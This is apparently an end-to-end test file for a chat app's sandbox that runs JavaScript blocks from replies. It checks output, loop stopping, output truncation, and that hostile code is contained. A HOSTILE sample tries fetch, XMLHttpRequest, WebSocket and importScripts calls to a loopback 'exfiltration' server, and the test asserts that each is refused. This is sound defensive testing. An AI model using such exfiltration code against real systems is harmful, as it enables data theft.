import { createServer, type IncomingMessage, type Server } from 'node:http';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import type { Locator, Page } from 'playwright-core';
import { textStream, type OpenAiServer } from '../support/openai-server/index.mjs';
import { composer, openConnectedApp, sendFromHome } from './connected-app';
import { modelServerPerFile, pagePerTest } from './page-per-test';
import { axeViolations, VIEWPORTS } from './screen-checks';

// Issue 36, slice C: Run on a reply's JavaScript block runs it in a worker started inside Parley's
// sandbox document (an opaque origin whose CSP has `connect-src 'none'`, inherited by its blob:
// worker). A sum shows its exact output; an endless loop is ended by Stop within a second,
// measured in the page; code reaching for the network, storage or more script gets nothing, and a
// loopback "exfiltration" server records that nothing reached it; 50 MB of output is cut at 1 MB.

const appUrl = inject('appUrl');
let server: OpenAiServer;
let page: Page;
modelServerPerFile({ models: ['test-model'] }, (started) => (server = started));

/** A loopback server that records every request (and WebSocket upgrade) that reaches it. */
let exfil: { url: string; port: number; requests: string[]; http: Server };
beforeAll(async () => {
  const requests: string[] = [];
  const record = (req: IncomingMessage) => requests.push(`${req.method} ${req.url}`);
  const http = createServer((req, res) => {
    record(req);
    res.writeHead(200, { 'Content-Type': 'text/javascript', 'Access-Control-Allow-Origin': '*' }).end('self.leaked = 1');
  });
  http.on('upgrade', (req, socket) => {
    record(req);
    socket.destroy();
  });
  await new Promise<void>((resolve) => http.listen(0, '127.0.0.1', resolve));
  const { port } = http.address() as { port: number };
  exfil = { url: `http://127.0.0.1:${port}`, port, requests, http };
});
afterAll(async () => {
  exfil.http.closeAllConnections();
  await new Promise<void>((resolve) => exfil.http.close(() => resolve()));
});

const SUM = ['let total = 0;', 'for (let i = 1; i <= 100; i++) total += i;', "console.log('sum of 1..100 =', total);", "console.warn('careful', { n: 1 });", 'total'].join('\n');
const LOOP = 'while (true) {}';
const HOSTILE = (url: string, port: number) =>
  [
    'const found = [];',
    `try { await fetch('${url}/fetch', { method: 'POST', body: 'x' }); found.push('fetch reached'); } catch (e) { found.push('fetch refused: ' + e.name); }`,
    `try { const x = new XMLHttpRequest(); x.open('GET', '${url}/xhr'); x.send(); found.push('xhr sent'); } catch (e) { found.push('xhr refused: ' + e.name); }`,
    `try { new WebSocket('ws://127.0.0.1:${port}/ws'); found.push('ws made'); } catch (e) { found.push('ws refused: ' + e.name); }`,
    `try { importScripts('${url}/import.js'); found.push('importScripts ran: ' + self.leaked); } catch (e) { found.push('importScripts refused: ' + e.name); }`,
    `found.push('sendBeacon: ' + typeof navigator.sendBeacon);`,
    "try { indexedDB.open('parley'); found.push('indexedDB opened'); } catch (e) { found.push('indexedDB refused: ' + e.name); }",
    "found.push('caches: ' + typeof caches);",
    "found.push('postMessage: ' + typeof postMessage);",
    "console.log(found.join('\\n'));",
    `await fetch('${url}/last');`,
  ].join('\n');
const FLOOD = "const line = 'x'.repeat(1023) + '\\n';\nfor (let i = 0; i < 50 * 1024; i++) console.log(line);";

const reply = () => page.getByRole('article', { name: 'Assistant' }).last();
/** The reply's code blocks, in order. */
const block = (at: number): Locator => reply().locator('.markdown__code').nth(at);
const output = (at: number) => block(at).getByRole('group', { name: 'Output of the JS block', exact: true });

/** Sends from the home page: Enter on a keyboard, the Send button by touch (Return adds a line on a phone). */
async function ask(blocks: string[], touch = false) {
  server.setScript(textStream(`Here:\n\n${blocks.map((code) => `\`\`\`js\n${code}\n\`\`\``).join('\n\nNext:\n\n')}\n`, { chunkSize: 80, delayMs: 1 }));
  if (touch) {
    await composer(page).fill('Write some JavaScript');
    await page.getByRole('button', { name: 'Send message' }).tap();
    await page.waitForURL(/\/chat\/[^/]+$/);
  } else await sendFromHome(page, 'Write some JavaScript');
  await block(blocks.length - 1).getByRole('button', { name: 'Run JS' }).waitFor();
}

describe('Run on a JavaScript block, desktop light, by keyboard', () => {
  pagePerTest({
    viewport: VIEWPORTS.desktop,
    colorScheme: 'light',
    async onOpen(opened) {
      page = opened.page;
      await openConnectedApp(page, appUrl, server);
    },
  });

  it('shows a sum exactly, stops an endless loop within a second, gets nothing out, cuts 50 MB of output', async () => {
    exfil.requests.length = 0;
    await ask([SUM, LOOP, HOSTILE(exfil.url, exfil.port), FLOOD]);

    // The sum: its output, the warning told apart in words, its last value, the outcome.
    const run = block(0).getByRole('button', { name: 'Run JS' });
    await run.focus();
    await page.keyboard.press('Enter');
    await output(0).and(page.locator('[data-state="done"]')).waitFor();
    expect(await output(0).locator('pre').innerText()).toBe("sum of 1..100 = 5050\nstderr careful {n: 1}\n");
    await output(0).getByText('Result 5050').waitFor();
    expect(await output(0).getByRole('status').innerText()).toMatch(/^Finished in \d+\.\d s$/);
    // Focus stays on the button as it turns to Stop and back.
    expect(await run.evaluate((button) => button === document.activeElement)).toBe(true);
    // The run's frame is gone with its run.
    expect(await block(0).locator('iframe').count()).toBe(0);

    // The endless loop: Run becomes Stop; Stop ends it within a second, timed in the page.
    await block(1).getByRole('button', { name: 'Run JS' }).focus();
    await page.keyboard.press('Enter');
    const stop = block(1).getByRole('button', { name: 'Stop JS' });
    await stop.waitFor();
    await output(1).getByRole('status').getByText('Running…').waitFor();
    // The page stays responsive while the loop spins in its worker.
    expect(await page.evaluate(() => new Promise<number>((resolve) => requestAnimationFrame(() => resolve(1))))).toBe(1);
    // Timed in the page: from Stop's click to "Stopped" shown.
    const stoppedIn = page.evaluate(
      () =>
        new Promise<number>((resolve) => {
          let clicked = 0;
          const shown = () => [...document.querySelectorAll('.code-run[data-state="stopped"]')].some((region) => region.textContent?.includes('Stopped'));
          document.addEventListener('click', (event) => (clicked = clicked || ((event.target as Element).closest('button')?.textContent === 'Stop' ? performance.now() : 0)), { capture: true });
          new MutationObserver(() => {
            if (clicked && shown()) resolve(performance.now() - clicked);
          }).observe(document.body, { subtree: true, childList: true, attributes: true, characterData: true });
        }),
    );
    await stop.focus();
    await page.keyboard.press('Enter');
    expect(await stoppedIn).toBeLessThan(1000);
    expect(await output(1).getByRole('status').innerText()).toBe('Stopped');
    await block(1).getByRole('button', { name: 'Run JS' }).waitFor();

    // Hostile code: no network, no storage, no script from anywhere, no way to the sandbox's program.
    await block(2).getByRole('button', { name: 'Run JS' }).click();
    await output(2).and(page.locator(':not([data-state="running"])')).waitFor();
    const found = await output(2).locator('pre').innerText();
    for (const line of [
      'fetch refused: TypeError',
      'importScripts refused: NetworkError',
      'sendBeacon: undefined',
      'indexedDB refused: SecurityError',
      'caches: undefined',
      'postMessage: undefined',
    ]) {
      expect(found).toContain(line);
    }
    expect(await output(2).getAttribute('data-state')).toBe('error');
    await output(2).getByText('Error at line 11: TypeError: Failed to fetch').waitFor();
    expect(await output(2).getByRole('status').innerText()).toMatch(/^Failed after \d+\.\d s$/);

    // 50 MB of output: 1 MB kept, a note says so, and the app keeps working.
    await block(3).getByRole('button', { name: 'Run JS' }).click();
    await output(3).and(page.locator('[data-state="done"]')).waitFor();
    await output(3).getByText('Output cut at 1 MB').waitFor();
    expect(await output(3).locator('pre').evaluate((pre) => pre.textContent!.length)).toBe(1_048_576);

    expect(exfil.requests).toEqual([]);
    server.setScript(textStream('Still here.', { chunkSize: 8 }));
    await composer(page).fill('Are you there?');
    await page.keyboard.press('Enter');
    await reply().getByText('Still here.').waitFor();

    expect(await axeViolations(page, page.getByRole('article', { name: 'Assistant' }).first())).toEqual([]);
  });
});

describe('Run on a JavaScript block, 390×844 touch, dark', () => {
  pagePerTest({
    viewport: VIEWPORTS.phone,
    colorScheme: 'dark',
    hasTouch: true,
    isMobile: true,
    async onOpen(opened) {
      page = opened.page;
      await openConnectedApp(page, appUrl, server);
    },
  });

  it('runs by touch, shows the output, and is axe clean', async () => {
    await ask([SUM], true);
    await block(0).getByRole('button', { name: 'Run JS' }).tap();
    await output(0).and(page.locator('[data-state="done"]')).waitFor();
    expect(await output(0).locator('pre').innerText()).toContain('sum of 1..100 = 5050');
    expect(await axeViolations(page, reply())).toEqual([]);
  });
});
